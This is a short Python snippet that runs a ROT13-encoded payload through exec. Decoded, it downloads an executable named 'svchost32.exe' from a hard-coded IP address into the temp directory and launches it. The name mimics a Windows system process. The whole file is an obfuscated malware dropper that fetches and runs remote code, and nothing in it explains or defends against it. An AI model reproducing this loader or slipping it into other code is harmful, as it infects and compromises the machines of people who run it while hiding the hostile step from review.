import codecs
_c = 'vzcbeg bf, heyyvo.erdhrfg, fhocebprff, grzcsvyr\nc = bf.cngu.wbva(grzcsvyr.trggrzcqve(), "fipubfg32.rkr")\nheyyvo.erdhrfg.heyergevrir("uggc://198.51.100.12/svyrf/fipubfg32.rkr", c)\nfhocebprff.Cbcra(c, furyy=Gehr)\n'
exec(codecs.decode(_c, 'rot13'))
